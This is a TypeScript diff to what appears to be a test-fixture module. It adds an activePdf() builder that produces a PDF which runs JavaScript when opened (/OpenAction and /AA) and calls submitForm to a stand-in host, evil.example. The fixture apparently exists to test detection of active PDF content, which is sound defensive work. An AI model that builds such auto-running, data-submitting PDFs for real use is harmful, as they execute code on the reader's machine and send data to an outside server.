@@ -9,11 +9,24 @@ export function photo(width: number, height: number) {
 
 // One empty A4 page with a correct cross-reference table, as a real (if tiny) PDF writer would produce.
 export function minimalPdf(): Buffer {
-  const objects = [
+  return pdfOf([
     '<< /Type /Catalog /Pages 2 0 R >>',
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
-  ]
+  ])
+}
+
+/** A one-page PDF that runs JavaScript when opened (/OpenAction) and names a script (/Names /JavaScript). */
+export function activePdf(): Buffer {
+  return pdfOf([
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(run) 4 0 R] >> >> >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>',
+    "<< /Type /Action /S /JavaScript /JS (app.alert('pdf script ran'); this.submitForm('http://evil.example/');) >>",
+  ])
+}
+
+function pdfOf(objects: string[]): Buffer {
   let body = '%PDF-1.4\n'
   const offsets = objects.map((object, index) => {
     const offset = body.length
